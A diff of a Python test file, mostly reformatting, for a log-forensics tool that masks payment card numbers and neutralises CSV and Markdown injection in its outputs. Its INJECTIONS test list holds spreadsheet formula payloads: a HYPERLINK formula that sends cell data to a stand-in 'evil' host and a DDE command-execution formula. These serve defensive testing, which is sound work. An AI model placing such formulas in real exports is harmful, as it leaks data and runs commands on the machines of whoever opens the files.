@@ -4,7 +4,6 @@ injection through the Markdown report and CSV cells."""
 from __future__ import annotations
 
 import hashlib
-import json
 import os
 import re
 import resource
@@ -13,10 +12,10 @@ import sys
 from pathlib import Path
 
 import polars as pl
-from polars.testing import assert_frame_equal
 import pytest
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
+from polars.testing import assert_frame_equal
 
 import forensics
 from forensics.cli import main
@@ -32,11 +31,24 @@ SAMPLE = Path(__file__).resolve().parent.parent / "sample_logs" / "dup_paper_out
 
 # Every shape of the issue's "Found" list; {p} the PAN, {s} in groups of 4 split by spaces, {d} by dashes.
 SHAPES = [
-    "pan={s}", "pan={d}", "PAN={p}", "pan:{p}", "PAN {p}", "cardNo={p}", "card_number: {p}",
-    ";{p}=25122011143804400000?", "%B{p}^DOE/JOHN^2512101000000000?", "raw {p}=2512201000",
-    "GET /pay?card={p}&amount=100 HTTP/1.1", '{{"pan":"{p}","amount":100}}',
-    "\tat com.pos.CardReader.read(CardReader.java:42) card {p}", "卡号{p} 交易成功", "{p}",
-    "debug card {p} retry", "card {s} ok", "card {d} ok",
+    "pan={s}",
+    "pan={d}",
+    "PAN={p}",
+    "pan:{p}",
+    "PAN {p}",
+    "cardNo={p}",
+    "card_number: {p}",
+    ";{p}=25122011143804400000?",
+    "%B{p}^DOE/JOHN^2512101000000000?",
+    "raw {p}=2512201000",
+    "GET /pay?card={p}&amount=100 HTTP/1.1",
+    '{{"pan":"{p}","amount":100}}',
+    "\tat com.pos.CardReader.read(CardReader.java:42) card {p}",
+    "卡号{p} 交易成功",
+    "{p}",
+    "debug card {p} retry",
+    "card {s} ok",
+    "card {d} ok",
 ]
 ENVELOPES = {
     "logcat": "03-14 10:02:08.731  2311  2398 I TransProcess: {line}",
@@ -48,14 +60,21 @@ LOGCAT_HEAD = "03-14 10:02:07.000  2311  2398 I TransProcess: START amount=100\n
 
 
 # How card numbers are grouped when written for people, by length (Amex 4-6-5, Diners 4-6-4).
-_GROUPING = {13: (4, 3, 3, 3), 14: (4, 6, 4), 15: (4, 6, 5), 16: (4, 4, 4, 4), 17: (4, 4, 4, 5), 18: (4, 4, 4, 6),
-             19: (4, 4, 4, 4, 3)}
+_GROUPING = {
+    13: (4, 3, 3, 3),
+    14: (4, 6, 4),
+    15: (4, 6, 5),
+    16: (4, 4, 4, 4),
+    17: (4, 4, 4, 5),
+    18: (4, 4, 4, 6),
+    19: (4, 4, 4, 4, 3),
+}
 
 
 def _groups(pan: str, sep: str) -> str:
     cuts, at = [], 0
     for size in _GROUPING[len(pan)]:
-        cuts.append(pan[at:at + size])
+        cuts.append(pan[at : at + size])
         at += size
     return sep.join(cuts)
 
@@ -116,8 +135,12 @@ def test_other_lengths(tmp_path: Path, pan: str) -> None:
 
 
 def test_gb18030_line(tmp_path: Path) -> None:
-    path = _write(tmp_path, "t.log", [LOGCAT_HEAD.strip(), ENVELOPES["logcat"].format(line=f"卡号{PAN} 交易成功")],
-                  encoding="gb18030")
+    path = _write(
+        tmp_path,
+        "t.log",
+        [LOGCAT_HEAD.strip(), ENVELOPES["logcat"].format(line=f"卡号{PAN} 交易成功")],
+        encoding="gb18030",
+    )
     loaded = forensics.load(path, card_key="k")
     assert not _leaks(_dump(loaded), PAN) and loaded.compliance.height == 1
 
@@ -125,14 +148,21 @@ def test_gb18030_line(tmp_path: Path) -> None:
 def test_jpos_fields_and_info(tmp_path: Path) -> None:
     block = [
         '<log realm="server-channel/10.20.0.5:9000" at="2026-01-14T23:17:07.270" lifespan="3ms">',
-        "  <receive>", '    <isomsg direction="incoming">',
-        '      <field id="0" value="0200"/>', '      <field id="2" value="520082______0222"/>',
-        '      <field id="11" value="123855"/>', '      <field id="41" value="T3796656"/>',
+        "  <receive>",
+        '    <isomsg direction="incoming">',
+        '      <field id="0" value="0200"/>',
+        '      <field id="2" value="520082______0222"/>',
+        '      <field id="11" value="123855"/>',
+        '      <field id="41" value="T3796656"/>',
         '      <field id="42" value="900000000000001"/>',
-        f'      <field id="48" value="ref 88 card={PAN};exp=2512"/>', f'      <field id="120" value="card {_groups(PAN, " ")}"/>',
-        "    </isomsg>", "  </receive>", "</log>",
+        f'      <field id="48" value="ref 88 card={PAN};exp=2512"/>',
+        f'      <field id="120" value="card {_groups(PAN, " ")}"/>',
+        "    </isomsg>",
+        "  </receive>",
+        "</log>",
         '<log realm="server-channel/10.20.0.5:9000" at="2026-01-14T23:17:08.000">',
-        f"  <info>card {PAN} declined, retry with {AMEX}</info>", "</log>",
+        f"  <info>card {PAN} declined, retry with {AMEX}</info>",
+        "</log>",
     ]
     plain = [line.replace(PAN, "476173******0010").replace(f"card {_groups(PAN, ' ')}", "x") for line in block]
     for lines in (block, plain):
@@ -154,12 +184,20 @@ def test_unparsed_lines(tmp_path: Path) -> None:
 
 def test_ids_that_are_not_cards_stay() -> None:
     """MIDs, RRNs and STANs (zero-padded), negative and underscored ids, hashes, longer numbers."""
-    kept = ["mid=000000001234567 rrn=412110000412 stan=000412", "blk_-1608999687919862906 blk_4761739001010010",
-            "id=-4761739001010010", "sha=ab4761739001010010cd", "n=47617390010100100", "ts=2026-03-14 10:02:08",
-            "bad 4761739001010011", "0476 1739 0010 1001",
-            "03-17 16:14:20.108 23650 23685 V AudioManager: isMusicActive",  # ms, pid, tid: 13 Luhn-valid digits
-            '<field id="42" value="900000000000001"/>', "mid=900000000000001 DE42=900000000000001",
-            "1.4761739001010010 10:02:4761739001010010"]
+    kept = [
+        "mid=000000001234567 rrn=412110000412 stan=000412",
+        "blk_-1608999687919862906 blk_4761739001010010",
+        "id=-4761739001010010",
+        "sha=ab4761739001010010cd",
+        "n=47617390010100100",
+        "ts=2026-03-14 10:02:08",
+        "bad 4761739001010011",
+        "0476 1739 0010 1001",
+        "03-17 16:14:20.108 23650 23685 V AudioManager: isMusicActive",  # ms, pid, tid: 13 Luhn-valid digits
+        '<field id="42" value="900000000000001"/>',
+        "mid=900000000000001 DE42=900000000000001",
+        "1.4761739001010010 10:02:4761739001010010",
+    ]
     guard = CardGuard(b"k")
     for text in kept:
         assert guard.protect(text) == (text, []), text
@@ -193,9 +231,12 @@ def test_pan_in_file_name(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsy
 
     for shown in (result.to_json(), result.to_text(), text.render(tl, show_all=True)):
         assert not _leaks(shown, PAN)
-    for args in (["parse", str(named), "-o", str(tmp_path / "e.csv"), "--compliance", str(tmp_path / "c.csv")],
-                 ["timeline", str(named)], ["diagnose", str(named), "--format", "json"],
-                 ["parse", str(tmp_path / f"missing {PAN}.log")]):
+    for args in (
+        ["parse", str(named), "-o", str(tmp_path / "e.csv"), "--compliance", str(tmp_path / "c.csv")],
+        ["timeline", str(named)],
+        ["diagnose", str(named), "--format", "json"],
+        ["parse", str(tmp_path / f"missing {PAN}.log")],
+    ):
         _, out, err = _cli(monkeypatch, capsys, *args)
         assert not _leaks(out + err, PAN), args
     for out in tmp_path.glob("*.csv"):
@@ -207,16 +248,23 @@ def test_pan_in_file_name(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsy
 @st.composite
 def _pans(draw: st.DrawFn) -> str:
     length = draw(st.integers(13, 19))
-    body = draw(st.sampled_from("23456")) + "".join(draw(st.lists(st.sampled_from("0123456789"),
-                                                                  min_size=length - 2, max_size=length - 2)))
+    body = draw(st.sampled_from("23456")) + "".join(
+        draw(st.lists(st.sampled_from("0123456789"), min_size=length - 2, max_size=length - 2))
+    )
     return body + next(d for d in "0123456789" if luhn_ok(body + d))
 
 
-@given(pan=_pans(), shape=st.sampled_from(SHAPES), envelope=st.sampled_from(list(ENVELOPES)),
-       in_name=st.booleans(), noise=st.sampled_from(["", " amount=100", " rc=00 stan=000412"]))
+@given(
+    pan=_pans(),
+    shape=st.sampled_from(SHAPES),
+    envelope=st.sampled_from(list(ENVELOPES)),
+    in_name=st.booleans(),
+    noise=st.sampled_from(["", " amount=100", " rc=00 stan=000412"]),
+)
 @settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
-def test_no_output_holds_a_generated_card(tmp_path_factory: pytest.TempPathFactory, pan: str, shape: str,
-                                          envelope: str, in_name: bool, noise: str) -> None:
+def test_no_output_holds_a_generated_card(
+    tmp_path_factory: pytest.TempPathFactory, pan: str, shape: str, envelope: str, in_name: bool, noise: str
+) -> None:
     """For any Luhn-valid card number in any shape, envelope or file name, no output holds its digits."""
     folder = tmp_path_factory.mktemp("prop")
     line = ENVELOPES[envelope].format(line=_shape(shape, pan) + noise, p=pan)
@@ -228,8 +276,14 @@ def test_no_output_holds_a_generated_card(tmp_path_factory: pytest.TempPathFacto
     result = diagnose([path], card_key="k")
     from forensics.report import text, timesketch
 
-    shown = [_dump(loaded), text.render(tl, show_all=True), timesketch.write(tl), result.to_json(), result.to_text(),
-             tl.transactions.write_ndjson()]
+    shown = [
+        _dump(loaded),
+        text.render(tl, show_all=True),
+        timesketch.write(tl),
+        result.to_json(),
+        result.to_text(),
+        tl.transactions.write_ndjson(),
+    ]
     for out in shown:
         assert not _leaks(out, pan)
 
@@ -238,8 +292,13 @@ def test_screen_is_cheap_on_plain_digits() -> None:
     """The fast path keeps lines whose digit runs cannot be cards (no Lark detour for MIDs)."""
     from forensics.ingest.cards import mask_text, screen_pattern
 
-    plain = pl.Series(["DE41=T0001234 DE42=000000001234567 DE37=412110000412", "blk_-1608999687919862906",
-                       "03-14 10:02:08.731  2311  2398 I X: y"])
+    plain = pl.Series(
+        [
+            "DE41=T0001234 DE42=000000001234567 DE37=412110000412",
+            "blk_-1608999687919862906",
+            "03-14 10:02:08.731  2311  2398 I X: y",
+        ]
+    )
     assert not plain.str.contains(screen_pattern()).any()
     assert mask_text(f"a {PAN}.log") == "a 476173******0010.log"
 
@@ -252,14 +311,22 @@ def _sha(path: Path) -> str:
 
 
 @pytest.mark.parametrize("link", ["same", "symlink", "hardlink"])
-@pytest.mark.parametrize("command", [
-    ["parse", "{log}", "-o", "{out}"], ["parse", "{log}", "-o", "{out}", "--format", "jsonl"],
-    ["parse", "{log}", "-o", "{out}", "--format", "csv"], ["parse", "{log}", "-o", "e.csv", "--unparsed", "{out}"],
-    ["parse", "{log}", "-o", "e.csv", "--compliance", "{out}"], ["timeline", "{log}", "-o", "{out}"],
-    ["timeline", "{log}", "-o", "{out}", "--format", "parquet"], ["diagnose", "{log}", "-o", "{out}"],
-])
-def test_output_over_an_input_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
-                                         capsys: pytest.CaptureFixture[str], link: str, command: list[str]) -> None:
+@pytest.mark.parametrize(
+    "command",
+    [
+        ["parse", "{log}", "-o", "{out}"],
+        ["parse", "{log}", "-o", "{out}", "--format", "jsonl"],
+        ["parse", "{log}", "-o", "{out}", "--format", "csv"],
+        ["parse", "{log}", "-o", "e.csv", "--unparsed", "{out}"],
+        ["parse", "{log}", "-o", "e.csv", "--compliance", "{out}"],
+        ["timeline", "{log}", "-o", "{out}"],
+        ["timeline", "{log}", "-o", "{out}", "--format", "parquet"],
+        ["diagnose", "{log}", "-o", "{out}"],
+    ],
+)
+def test_output_over_an_input_is_refused(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], link: str, command: list[str]
+) -> None:
     log = tmp_path / "x.log"
     log.write_bytes(SAMPLE.read_bytes())
     out = log if link == "same" else tmp_path / "out.file"
@@ -275,7 +342,7 @@ def test_output_over_an_input_is_refused(tmp_path: Path, monkeypatch: pytest.Mon
 
 
 def test_write_parquet_refuses_an_input(tmp_path: Path) -> None:
-    from forensics.outputs import OutputError
+    from forensics.errors import OutputError
 
     log = tmp_path / "x.log"
     log.write_bytes(SAMPLE.read_bytes())
@@ -284,8 +351,9 @@ def test_write_parquet_refuses_an_input(tmp_path: Path) -> None:
     assert log.read_bytes() == SAMPLE.read_bytes()
 
 
-def test_chart_over_an_input_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
-                                        capsys: pytest.CaptureFixture[str]) -> None:
+def test_chart_over_an_input_is_refused(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
     log = tmp_path / "x.png"
     log.write_bytes(SAMPLE.read_bytes())
     before = _sha(log)
@@ -294,8 +362,9 @@ def test_chart_over_an_input_is_refused(tmp_path: Path, monkeypatch: pytest.Monk
 
 
 @pytest.mark.parametrize("where", ["inside", "hardlink"])
-def test_report_folder_holding_an_input_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
-                                                   capsys: pytest.CaptureFixture[str], where: str) -> None:
+def test_report_folder_holding_an_input_is_refused(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], where: str
+) -> None:
     folder = tmp_path / "case"
     folder.mkdir()
     if where == "inside":
@@ -309,28 +378,41 @@ def test_report_folder_holding_an_input_is_refused(tmp_path: Path, monkeypatch: 
     code, _, err = _cli(monkeypatch, capsys, "report", str(log), "-o", str(folder), "--format", "md")
     assert code == 2 and len(err.strip().splitlines()) == 1, err
     assert _sha(log) == before and sorted(p.name for p in folder.iterdir()) == [
-        "report.md" if where == "inside" else "report.html"]
+        "report.md" if where == "inside" else "report.html"
+    ]
 
 
 def _limited(limit: int) -> None:
     resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))
 
 
-@pytest.mark.parametrize("args", [
-    ["parse", "{log}", "-o", "{dir}/e.csv"], ["parse", "{log}", "-o", "{dir}/e.jsonl"],
-    ["parse", "{log}", "-o", "{dir}/e.parquet"], ["timeline", "{log}", "--all", "-o", "{dir}/t.txt"],
-    ["timeline", "{log}", "--format", "timesketch", "-o", "{dir}/t.jsonl"],
-    ["report", "{log}", "-o", "{dir}", "--format", "html"], ["report", "{log}", "-o", "{dir}", "--format", "md"],
-    ["report", "{log}", "-o", "{dir}", "--format", "pdf"], ["chart", "{log}", "-o", "{dir}/c.png"],
-    ["chart", "{log}", "-o", "{dir}/c.svg"],
-])
+@pytest.mark.parametrize(
+    "args",
+    [
+        ["parse", "{log}", "-o", "{dir}/e.csv"],
+        ["parse", "{log}", "-o", "{dir}/e.jsonl"],
+        ["parse", "{log}", "-o", "{dir}/e.parquet"],
+        ["timeline", "{log}", "--all", "-o", "{dir}/t.txt"],
+        ["timeline", "{log}", "--format", "timesketch", "-o", "{dir}/t.jsonl"],
+        ["report", "{log}", "-o", "{dir}", "--format", "html"],
+        ["report", "{log}", "-o", "{dir}", "--format", "md"],
+        ["report", "{log}", "-o", "{dir}", "--format", "pdf"],
+        ["chart", "{log}", "-o", "{dir}/c.png"],
+        ["chart", "{log}", "-o", "{dir}/c.svg"],
+    ],
+)
 def test_a_stopped_write_leaves_no_partial_file(tmp_path: Path, args: list[str]) -> None:
     """With ``ulimit -f`` too small for the output, the write fails and leaves nothing behind."""
     out = tmp_path / "out"
     out.mkdir()
     argv = [a.format(log=SAMPLE, dir=out) for a in args]
-    result = subprocess.run([sys.executable, "-c", "from forensics.cli import main; main()", *argv],
-                            capture_output=True, text=True, timeout=300, preexec_fn=lambda: _limited(4096))
+    result = subprocess.run(
+        [sys.executable, "-c", "from forensics.cli import main; main()", *argv],
+        capture_output=True,
+        text=True,
+        timeout=300,
+        preexec_fn=lambda: _limited(4096),
+    )
     assert result.returncode == 2, result.stderr
     assert list(out.iterdir()) == []
 
@@ -357,21 +439,42 @@ def test_markdown_escape_keeps_text_readable() -> None:
     assert incident.md_escape("1. item") == "1\\. item"
     # numbers, dates and parentheses that open no block and no link stay as they are
     assert [incident.md_escape(t) for t in ("0.75", "2026-01-15", "1.01.22E", "skew (s)")] == [
-        "0.75", "2026-01-15", "1.01.22E", "skew (s)"]
+        "0.75",
+        "2026-01-15",
+        "1.01.22E",
+        "skew (s)",
+    ]
 
 
-INJECTIONS = ['=HYPERLINK("http://evil/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)", "=cmd|' /C calc'!A0",
-              "\tTAB", "\rCR"]
+INJECTIONS = [
+    '=HYPERLINK("http://evil/?x="&A1,"click")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "=cmd|' /C calc'!A0",
+    "\tTAB",
+    "\rCR",
+]
 
 
 @pytest.mark.parametrize("raw", [False, True])
-def test_csv_cells_are_neutralised(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
-                                   capsys: pytest.CaptureFixture[str], raw: bool) -> None:
+def test_csv_cells_are_neutralised(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], raw: bool
+) -> None:
     lines = [LOGCAT_HEAD.strip()] + [ENVELOPES["logcat"].format(line=i) for i in INJECTIONS[:5]] + INJECTIONS
     log = _write(tmp_path, "inj.log", lines)
     flag = ["--csv-raw"] if raw else []
-    code, _, err = _cli(monkeypatch, capsys, "parse", str(log), "-o", str(tmp_path / "e.csv"),
-                        "--unparsed", str(tmp_path / "u.csv"), *flag)
+    code, _, err = _cli(
+        monkeypatch,
+        capsys,
+        "parse",
+        str(log),
+        "-o",
+        str(tmp_path / "e.csv"),
+        "--unparsed",
+        str(tmp_path / "u.csv"),
+        *flag,
+    )
     assert code == 0, err
     events = pl.read_csv(tmp_path / "e.csv", infer_schema=False)
     unparsed = pl.read_csv(tmp_path / "u.csv", infer_schema=False)
@@ -387,12 +490,14 @@ def test_csv_numbers_are_not_touched() -> None:
     from forensics.outputs import csv_safe
 
     frame = pl.DataFrame({"amount": [-500, 100], "text": ["-500", "ok"], "rc": [None, "=1"]})
-    assert csv_safe(frame).to_dict(as_series=False) == {"amount": [-500, 100], "text": ["'-500", "ok"],
-                                                         "rc": [None, "'=1"]}
+    assert csv_safe(frame).to_dict(as_series=False) == {
+        "amount": [-500, 100],
+        "text": ["'-500", "ok"],
+        "rc": [None, "'=1"],
+    }
 
 
 def test_help_says_csv_raw(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
     for command in ("parse", "timeline"):
         _, out, _ = _cli(monkeypatch, capsys, command, "--help")
         assert "--csv-raw" in out and "OWASP" in out
-
